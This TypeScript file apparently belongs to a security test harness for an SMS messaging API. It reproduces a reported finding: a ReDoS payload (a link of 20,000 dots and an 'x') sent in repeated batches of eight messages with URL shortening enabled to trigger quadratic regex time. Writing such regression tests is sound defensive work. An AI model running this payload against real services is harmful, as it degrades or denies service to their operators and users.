import type { Attack } from '../harness.js';

/**
 * Finding 1's text: a link of 20,000 dots and an `x`, which a regular expression for trailing dots took quadratic time
 * over.
 */
export const LONG_LINK_TEXT = `http://a${'.'.repeat(20_000)}x`;

/** Finding 1: 8 messages a round whose one link is 20,000 dots long, with `shortUrl: true`. */
export const longLinks: Attack<{ token: string }> = {
  name: 'links of 20,000 dots to shorten',
  async setup(h) {
    const attacker = await h.createAccount({ senderNames: [['SMS', 'Attacker']] });
    return { token: attacker.traffic };
  },
  round: (h, state, round) =>
    h.call('POST', '/api/v1/message', {
      token: state.token,
      body: Array.from({ length: 8 }, (_, i) => ({
        channelType: 'SMS',
        senderName: 'Attacker',
        destination: `7916888${String(round % 1000).padStart(3, '0')}${i}`,
        content: LONG_LINK_TEXT,
        shortUrl: true,
      })),
    }),
};
